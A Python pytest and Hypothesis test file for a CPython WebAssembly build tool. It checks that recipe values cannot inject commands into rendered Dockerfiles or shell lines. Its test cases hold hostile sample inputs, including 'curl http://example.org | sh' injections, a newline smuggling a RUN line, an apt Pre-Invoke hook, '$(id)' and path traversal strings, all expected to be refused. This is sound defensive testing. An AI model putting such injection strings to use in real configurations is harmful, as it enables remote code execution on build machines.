"""Recipe values never become code: every field that reaches a Dockerfile, a command or a path has a strict
grammar (cpython_wasm/recipes/grammar.py), and rendering quotes and checks every value again (cpython_wasm/stages/render.py).

Hypothesis puts arbitrary strings (and integers) in every field of the real recipes: each either fails
validation with the file and the key named, or the recipes render to Dockerfiles with exactly the
instructions the templates have: parsed with dockerfile-parse, the same instructions in the same order,
the same labels and environment variables, the same shell operators in each RUN line. The same is asked
of the templates themselves, with values that no grammar checked."""

import datetime
import io
import os
import re
import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest
import tomli_w
from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from cpython_wasm.errors import UserError
from cpython_wasm.paths import CONTAINERS_DIR
from cpython_wasm.recipes import grammar
from cpython_wasm.recipes.plan import RECIPES_DIR, Recipes
from cpython_wasm.stages import images
from cpython_wasm.stages.render import dockerfile_word, in_quotes, render, shell_word
from cpython_wasm.targets import toolchain_spec
from tests.test_malformed_input import assert_names, at

# A file for each kind of recipe, and the files whose fields the others lack (host_environment, apt_options).
RECIPE_FILES = ["cpython/3.13.toml", "cpython/3.11.toml", "toolchains/wasi-sdk/25.toml", "toolchains/emsdk/3.1.69.toml",
                "libraries/zlib.toml", "base/debian-trixie.toml", "base/debian-sid.toml", "tools/wasmtime.toml",
                "tests.toml"]
# Builds that render every template from those files: (python, sdk, provider, target).
REQUESTS = [("3.13.5", 25, "debian", "wasi"), ("3.13.5", 25, "release", "wasi"),
            ("3.13.5", "3.1.69", "debian", "emscripten"), ("3.13.5", "3.1.69", "release", "emscripten"),
            ("3.11.2", 25, "debian", "wasi"), ("3.15.0rc2", 33, "debian", "wasi")]
ARCHES = ("x86_64", "aarch64")
# Tables whose entries are alike (a package and its version, an architecture and its tarball...): their
# first entry stands for the others.
LIKE_ENTRIES = {"packages", "tarballs", "wheels", "suites", "host_environment"}

# What ends, escapes, expands or comments something in a Dockerfile or a shell, and text around it.
NASTY = " \n\r\t\"'\\$`;&|<>(){}[]*?~#=:,-./+@%!^\x00\x7f\u2028é" + "az09AZ"
# Arbitrary text, text of those characters, and words that many grammars allow (so that some values pass).
TEXT = st.one_of(st.text(max_size=40), st.text(alphabet=st.sampled_from(NASTY), max_size=40),
                 st.from_regex(r"[0-9a-z][0-9a-z.+~:-]{0,15}", fullmatch=True))


def cached(pin):
    return Path("/cache/sha256") / pin.sha256


# -- what a rendered Dockerfile is made of --------------------------------------------------------


OPERATOR_CHARACTERS = "();<>|&"


def _after_double_quotes(command: str, i: int) -> int:
    """Where the double-quoted string whose text starts at `i` ends (past its closing quote)."""
    while command[i] != '"':
        if command[i] == "\\":
            i += 2
        elif command.startswith("$(", i):
            i = _after_substitution(command, i + 2)
        elif command[i] == "`":
            i = command.index("`", i + 1) + 1
        else:
            i += 1
    return i + 1


def _after_substitution(command: str, i: int) -> int:
    """Where the command substitution whose text starts at `i` ends (past its closing parenthesis)."""
    depth = 1
    while True:
        character = command[i]
        if character == "'":
            i = command.index("'", i + 1)
        elif character == '"':
            i = _after_double_quotes(command, i + 1) - 1
        elif character == "\\":
            i += 1
        elif character == "(":
            depth += 1
        elif character == ")":
            depth -= 1
            if depth == 0:
                return i + 1
        i += 1


def shell_operators(command: str) -> list[str]:
    """The shell's control and redirection operators in a command, in order, outside quotes and substitutions;
    a comment ends it. Unterminated quoting raises (IndexError, ValueError)."""
    operators, i = [], 0
    while i < len(command):
        character = command[i]
        if character == "\\":
            i += 2
        elif character == "'":
            i = command.index("'", i + 1) + 1
        elif character == '"':
            i = _after_double_quotes(command, i + 1)
        elif command.startswith("$(", i):
            i = _after_substitution(command, i + 2)
        elif character == "`":
            i = command.index("`", i + 1) + 1
        elif character == "#" and (i == 0 or command[i - 1] in " \t"):
            break
        elif character in OPERATOR_CHARACTERS:
            operator = re.match(f"[{re.escape(OPERATOR_CHARACTERS)}]+", command[i:]).group()
            operators.append(operator)
            i += len(operator)
        else:
            i += 1
    return operators


def shape(dockerfile: str) -> list:
    """The instructions of a Dockerfile, in order, with what a value could add to each: labels, variables,
    words of a COPY or FROM, operators of a RUN line."""
    parser = DockerfileParser(fileobj=io.BytesIO(dockerfile.encode()))
    found = []
    for instruction in parser.structure:
        kind, value = instruction["instruction"], instruction["value"]
        if kind == "RUN":
            found.append((kind, shell_operators(value)))
        elif kind in ("FROM", "COPY"):
            found.append((kind, len(value.split())))
        elif kind in ("COMMENT", "LABEL", "ENV"):
            found.append((kind,))
        else:
            found.append((kind, value))
    return [found, sorted(parser.labels), sorted(parser.envs)]


# -- the recipes, a field at a time -----------------------------------------------------------------------


def fields(data, path=()):
    """The path of each field of a recipe: one element of each list, one entry of each table of like entries."""
    items = data.items() if isinstance(data, dict) else enumerate(data)
    if isinstance(data, list) or path[-1:] and path[-1] in LIKE_ENTRIES:
        items = list(items)[:1]
    for key, value in items:
        if isinstance(value, dict | list):
            yield from fields(value, (*path, key))
        elif isinstance(value, str | int) and not isinstance(value, bool):
            yield (*path, key)


def field_cases():
    """(file, path, what): each field's value, and the name of each table entry (what="key"), once per kind of recipe."""
    seen, cases = set(), []
    for name in RECIPE_FILES:
        data = tomllib.loads((RECIPES_DIR / name).read_text())
        kind = str(Path(name).parent)
        for path in fields(data):
            if (kind, path) not in seen:
                seen.add((kind, path))
                shown = f"{name}:{'.'.join(map(str, path))}"
                cases.append(pytest.param(name, path, "value", id=shown))
                if len(path) > 1 and path[-2] in LIKE_ENTRIES:
                    cases.append(pytest.param(name, path, "key", id=f"{shown}:key"))
    return cases


@pytest.fixture(scope="module")
def recipes_root(tmp_path_factory):
    root = tmp_path_factory.mktemp("grammar") / "recipes"
    shutil.copytree(RECIPES_DIR, root)
    return root


def rendered(recipes: Recipes, only: Path | None = None) -> dict:
    """The shape of each image's Dockerfile, by request and architecture; with `only`, of the builds that read it."""
    found = {}
    for request in REQUESTS:
        python, sdk, provider, target = request
        for arch in ARCHES:
            try:
                plan = recipes.resolve(python, sdk, provider, target, arch)
            except UserError as error:  # what the request resolves to changed: said in terms of the request
                assert "\n" not in str(error)
                continue
            if only is None or only in plan.recipe_paths.values():
                found[request, arch] = [shape(images.native_spec(plan).dockerfile),
                                        shape(toolchain_spec(plan, cached).dockerfile)]
    return found


@pytest.fixture(scope="module")
def baseline(recipes_root):
    found = rendered(Recipes(recipes_root))
    assert len(found) == len(REQUESTS) * len(ARCHES)  # every build of REQUESTS resolves, on both architectures
    return found


def mutated(draw, data, path, what):
    """`data` with the field at `path` given an arbitrary value (or its table entry an arbitrary name); the key
    an error must name."""
    parent, key = at(data, path[:-1]), path[-1]
    if what == "key":
        name = draw(TEXT.filter(lambda name: name not in parent), label="name")
        parent[name] = parent.pop(key)
        return (*path[:-1], name)
    original = parent[key]
    if isinstance(original, int):
        parent[key] = draw(st.integers(-(2**63), 2**63 - 1), label="value")
    else:
        inserted = st.builds(lambda text, cut: original[:cut] + text + original[cut:], TEXT, st.integers(0, len(original)))
        parent[key] = draw(st.one_of(TEXT, inserted), label="value")
    return path


@pytest.mark.parametrize("name, path, what", field_cases())
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_arbitrary_values_in_every_field_are_named_or_render_the_same_instructions(recipes_root, baseline, name, path,
                                                                                   what, data):
    recipe = recipes_root / name
    original = recipe.read_text()
    content = tomllib.loads(original)
    key = mutated(data.draw, content, path, what)
    recipe.write_text(tomli_w.dumps(content))
    try:
        try:
            recipes = Recipes(recipes_root)
            recipes.tests  # noqa: B018 (a property: tests.toml is read when asked for)
        except UserError as error:
            assert_names(error, recipe, key)
            event("refused, naming the file and the key")
            return
        builds = rendered(recipes, only=recipe)
        event(f"accepted, and {len(builds)} builds rendered")
        for build, shapes in builds.items():
            assert shapes == baseline[build], build
    finally:
        recipe.write_text(original)


# -- the issue's examples --------------------------------------------------------------------------------


@pytest.mark.parametrize("name, path, value, expected", [
    ("base/debian-trixie.toml", ("packages", "gcc"), "1.2-3 \\\n && curl http://example.org/x | sh #",
     "key `packages.gcc`: expected a Debian package version"),
    ("toolchains/wasi-sdk/25.toml", ("providers", "debian", "version_file"), '25.0" && curl http://example.org | sh "',
     "key `providers.debian.version_file`: expected one line of printable text without"),
    ("base/debian-trixie.toml", ("suite",), "trixie\nRUN curl http://example.org | sh",
     "key `suite`: expected a Debian suite"),
    ("base/debian-trixie.toml", ("mirror",), "file:///etc", "key `mirror`: expected an http:// or https:// URL"),
    ("base/debian-trixie.toml", ("variant",), "minbase --customize-hook=sh", "key `variant`"),
    ("base/debian-sid.toml", ("apt_options", 0), 'APT::Update::Pre-Invoke {"curl http://example.org | sh"}',
     "key `apt_options.0`: expected an apt option"),
    ("cpython/3.13.toml", ("releases", 0, "source", "size"), -1, "key `releases.0.source.size`: input should be greater than 0"),
    ("cpython/3.13.toml", ("releases", 0, "source", "file"), "../Python-3.13.5.tar.xz",
     "key `releases.0.source.file`: expected a plain file name"),
    ("cpython/3.13.toml", ("releases", 0, "source", "file"), "-Python.tar.xz", "key `releases.0.source.file`"),
    ("cpython/3.13.toml", ("releases", 0, "source", "urls", 0), "https://www.python.org/x y",
     "key `releases.0.source.urls.0`: expected an http:// or https:// URL"),
    ("cpython/3.13.toml", ("wasi", "host_triple"), "../../../etc", "key `wasi.host_triple`: expected a target triple"),
    ("cpython/3.13.toml", ("wasi", "configure_host_args", 0), "CC=curl http://example.org|sh",
     "key `wasi.configure_host_args.0`: expected a configure argument"),
    ("cpython/3.11.toml", ("wasi", "host_environment", "CFLAGS"), "-O2; curl http://example.org | sh",
     "key `wasi.host_environment.CFLAGS`: expected flags"),
    ("cpython/3.13.toml", ("package", "exclude", 0), "../../etc", "key `package.exclude.0`: expected a path relative to Lib/"),
    ("toolchains/emsdk/3.1.69.toml", ("providers", "release", "tarballs", "x86_64", "sha256"), "0" * 63,
     "expected a sha256 (64 lowercase hex digits)"),
    ("cpython/3.13.toml", ("emscripten", "libraries", 0), "zlib bzip2", "key `emscripten.libraries.0`: expected a recipe name"),
    ("tests.toml", ("known_failures", 0, "reason"), "one\ntwo", "key `known_failures.0.reason`: expected one line"),
    # A library's options reach its build script's command line and configure's environment.
    ("libraries/sqlite.toml", ("cflags", 0), "-O2; curl http://example.org | sh", "key `cflags.0`: expected flags"),
    ("libraries/sqlite.toml", ("target_cflags", "wasi", 0), "$(id)", "key `target_cflags.wasi.0`: expected flags"),
    ("libraries/sqlite.toml", ("target_cflags", "wasm64"), ["-O2"],
     "key `target_cflags.wasm64.[key]`: input should be 'wasi' or 'emscripten'"),
    ("libraries/sqlite.toml", ("configure_name",), "LIBSQLITE3_CFLAGS=-I/x", "key `configure_name`: expected an "
     "environment variable's name"),
    ("libraries/sqlite.toml", ("link",), "sqlite3 -lcurl", "key `link`: expected a recipe name"),
    ("libraries/sqlite.toml", ("modules", 0), "../os", "key `modules.0`: expected a recipe name"),
    # Numbers are TOML integers within bounds, never converted from a string, a boolean or a float.
    ("base/debian-trixie.toml", ("source_date_epoch",), 99999999999999999999 // 10**5, "key `source_date_epoch`: input "
     "should be less than or equal to 4294967295"),
    ("base/debian-trixie.toml", ("source_date_epoch",), True, "key `source_date_epoch`: input should be a valid integer"),
    ("base/debian-trixie.toml", ("source_date_epoch",), "1735689600", "key `source_date_epoch`: input should be a valid "
     "integer"),
    ("base/debian-trixie.toml", ("source_date_epoch",), 1e3, "key `source_date_epoch`: input should be a valid integer"),
    ("cpython/3.13.toml", ("releases", 0, "release_date"), datetime.date(1800, 1, 1), "key `releases.0.release_date`: "
     "expected a date from 1970-01-01 to 2106-02-07"),
    ("cpython/3.13.toml", ("releases", 0, "release_date"), datetime.date(9999, 12, 31), "key `releases.0.release_date`"),
    ("toolchains/wasi-sdk/25.toml", ("providers", "debian", "llvm_major"), True, "key `providers.debian.llvm_major`: "
     "input should be a valid integer"),
    ("toolchains/wasi-sdk/25.toml", ("providers", "debian", "llvm_major"), "19", "key `providers.debian.llvm_major`"),
])
def test_the_values_of_the_issue_are_refused_naming_file_and_key(recipes_root, name, path, value, expected):
    recipe = recipes_root / name
    original = recipe.read_text()
    content = tomllib.loads(original)
    at(content, path[:-1])[path[-1]] = value
    recipe.write_text(tomli_w.dumps(content))
    try:
        with pytest.raises(UserError) as error:
            Recipes(recipes_root).tests  # noqa: B018
        assert_names(error.value, recipe, path)
        assert expected in str(error.value)
    finally:
        recipe.write_text(original)


def test_a_package_name_that_is_an_option_is_refused(recipes_root):
    recipe = recipes_root / "base/debian-trixie.toml"
    original = recipe.read_text()
    content = tomllib.loads(original)
    content["packages"]["-oDPkg::Pre-Invoke::"] = "1.0"
    recipe.write_text(tomli_w.dumps(content))
    try:
        with pytest.raises(UserError, match=r"key `packages.-oDPkg::Pre-Invoke::.\[key\]`: expected a Debian package name"):
            Recipes(recipes_root)
    finally:
        recipe.write_text(original)


@pytest.mark.parametrize("version", ["1:2.3~rc1+dfsg-1", "0.0~git20241209.574b88d-2", "1:19.1.7-3+b1", "120-4", "2.0",
                                     "1.0-1-1", "4:14.2.0-1"])
def test_debian_versions_by_policy_are_accepted(version):
    assert grammar.check_debian_version(version) == version


@pytest.mark.parametrize("version", ["", "a1.0", "1.0-", ":1.0", "1:", "1.0 ", "1.0-1_2", "1.0:1", "-1.0", "1.0$x",
                                     "1.0\n", "1.2-3 && curl x | sh"])
def test_other_debian_versions_are_refused(version):
    with pytest.raises(ValueError, match="expected a Debian package version"):
        grammar.check_debian_version(version)


@pytest.mark.parametrize("url", ["file:///etc", "ftp://deb.debian.org/debian", "http://", "http:///debian",
                                 "http://deb.debian.org:port/", "http://deb.debian.org/de bian", "http://deb.debian.org/\n",
                                 'http://deb.debian.org/"', "http://deb.debian.org/\\", "http://déb.debian.org/",
                                 "javascript:alert(1)", "http://" + "a" * 1000])
def test_only_http_urls_with_a_host_are_urls(url):
    with pytest.raises(ValueError, match="expected an http:// or https:// URL"):
        grammar.check_url(url)


# -- rendering, whatever a value's origin ----------------------------------------------------------------


def template_values():
    """(template, values) of every template, as images.py renders them for the builds of REQUESTS."""
    found = {}

    def spy(template, **values):
        found.setdefault(template, values)
        return render(template, **values)

    recipes = Recipes()
    original = images.render
    images.render = spy
    try:
        for python, sdk, provider, target in REQUESTS:
            plan = recipes.resolve(python, sdk, provider, target, "x86_64")
            images.native_spec(plan), toolchain_spec(plan, cached)
    finally:
        images.render = original
    return found


TEMPLATE_VALUES = template_values()


def variable_cases():
    """(template, variable, part): each value a template is given; part is "key" or "value" of a package."""
    cases = []
    for template, values in TEMPLATE_VALUES.items():
        for variable, value in values.items():
            if variable == "packages":
                cases += [(template, variable, "key"), (template, variable, "value")]
            elif isinstance(value, str | int) and not isinstance(value, bool):
                cases.append((template, variable, None))
    return cases


def with_text(values: dict, variable: str, part, text: str) -> dict:
    """The template's values with one of them, or one package's part, replaced by `text`."""
    values = dict(values)
    if variable == "packages":
        (name, version), *others = values["packages"].items()
        values["packages"] = {**({text: version} if part == "key" else {name: text}), **dict(others)}
    else:
        values[variable] = text
    return values


@pytest.mark.parametrize("template, variable, part", variable_cases())
@settings(max_examples=40, deadline=None)
@given(text=TEXT)
def test_arbitrary_template_values_are_refused_or_render_the_same_instructions(template, variable, part, text):
    expected = shape(render(template, **TEMPLATE_VALUES[template]))
    try:
        dockerfile = render(template, **with_text(TEMPLATE_VALUES[template], variable, part, text))
    except UserError as error:
        assert f"containers/{template} cannot be rendered" in str(error) and "\n" not in str(error)
        event("refused")
        return
    event("rendered")
    assert shape(dockerfile) == expected


def test_a_line_break_in_any_value_stops_rendering():
    values = with_text(TEMPLATE_VALUES["native.Dockerfile.j2"], "suite", None, "trixie\nRUN curl http://example.org | sh")
    with pytest.raises(UserError, match="native.Dockerfile.j2 cannot be rendered: .* holds a line break"):
        render("native.Dockerfile.j2", **values)


def test_every_value_in_a_template_takes_the_filter_for_where_it_is_written():
    """sh in a command, in_quotes between double quotes, word in FROM, COPY and ENV; none in a comment line."""
    for path in sorted(CONTAINERS_DIR.glob("*.j2")):
        text = re.sub(r"\{#.*?#\}", "", path.read_text(), flags=re.S)
        instruction = None
        for line in text.splitlines():
            if not line.startswith((" ", "{")) and line.strip():
                instruction = line.split()[0]
            for match in re.finditer(r"\{\{(.*?)\}\}", line):
                used = match.group(1).strip().rsplit("|", 1)[-1].strip()
                where = f"{path.name}: {line.strip()}"
                if instruction == "#":
                    continue
                if line[:match.start()].count('"') % 2:
                    assert used == "in_quotes", where
                elif instruction == "RUN":
                    assert used == "sh", where
                else:
                    assert instruction in ("FROM", "COPY", "ENV") and used == "word", where


# -- the filters, against a real shell ---------------------------------------------------------------------


def shell_output(shell: str, command: str) -> str:
    result = subprocess.run([shell, "-c", command], capture_output=True, check=True,
                            env={"HOME": "/home-of-tilde", "PATH": "/usr/bin:/bin"})
    return result.stdout.decode("utf-8", "surrogateescape")


SHELLS = [shell for shell in ("sh", "bash") if shutil.which(shell)]
SHELL_TEXT = TEXT.filter(lambda text: "\x00" not in text)  # no shell passes a NUL in an argument


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=100, deadline=None)
@given(name=SHELL_TEXT, version=SHELL_TEXT)
@example(name="gcc", version="1:~").via("a tilde after a colon: bash expands it in an assignment-like word")
@example(name="a=~/b", version="~/c").via("a tilde after = and at the start of a word")
def test_a_shell_word_reaches_the_command_as_it_was(shell, name, version):
    """Also as the templates join two: `{{ name | sh }}={{ version | sh }}` (bash expands ~ after = there)."""
    if name.startswith("-") or version.startswith("-"):
        with pytest.raises(ValueError, match="starts with '-'"):
            shell_word(name), shell_word(version)
        return
    assert shell_output(shell, f"printf '%s' {shell_word(name)}={shell_word(version)}") == f"{name}={version}"


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=100, deadline=None)
@given(text=SHELL_TEXT)
def test_text_in_quotes_reaches_the_command_as_it_was_or_is_refused(shell, text):
    try:
        quoted = in_quotes(text)
    except ValueError:
        assert any(character in grammar.NOT_IN_QUOTES for character in text)
        return
    assert shell_output(shell, f"printf '%s' \"{quoted}\"") == text


PLAIN_GRAMMARS = ["debian_package", "debian_version", "debian_suite", "file_name", "recipe_name", "version", "sha256",
                  "emsdk_version", "pinned_image", "arch", "host_triple"]


@pytest.mark.parametrize("check", [getattr(grammar, f"check_{name}") for name in PLAIN_GRAMMARS], ids=PLAIN_GRAMMARS)
@settings(max_examples=100, deadline=None)
@given(data=st.data())
def test_values_of_the_grammars_render_unchanged(check, data):
    """Why the committed Dockerfiles (and the image tags hashed from them) did not change: no value a
    grammar allows needs quoting, Debian's tildes included."""
    value = data.draw(st.from_regex(check.pattern, fullmatch=True).filter(lambda value: len(value) <= grammar.MAX_NAME))
    assert shell_word(value) == value and dockerfile_word(value) == value and in_quotes(value) == value


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "huge", "directory"])
def test_a_recipe_that_is_no_small_regular_file_is_refused_unread(recipes_root, kind):
    """Every recipe is read when recipes load (the unselected ones too): a FIFO would hang every command, and
    /dev/zero or a huge file fill memory."""
    recipe = recipes_root / "toolchains/wasi-sdk/33.toml"
    original = recipe.read_text()
    recipe.unlink()
    try:
        if kind == "fifo":
            os.mkfifo(recipe)
        elif kind == "/dev/zero":
            recipe.symlink_to("/dev/zero")
        elif kind == "directory":
            recipe.mkdir()
        else:
            recipe.write_text(original + "#" * (2 << 20) + "\n")
        with pytest.raises(UserError) as error:
            Recipes(recipes_root).tests  # noqa: B018
        expected = "is larger than" if kind == "huge" else "is not a regular file"
        assert f"Cannot read recipe {recipe}: it {expected}" in str(error.value), error.value
    finally:
        if recipe.is_dir() and not recipe.is_symlink():
            recipe.rmdir()
        else:
            recipe.unlink()
        recipe.write_text(original)
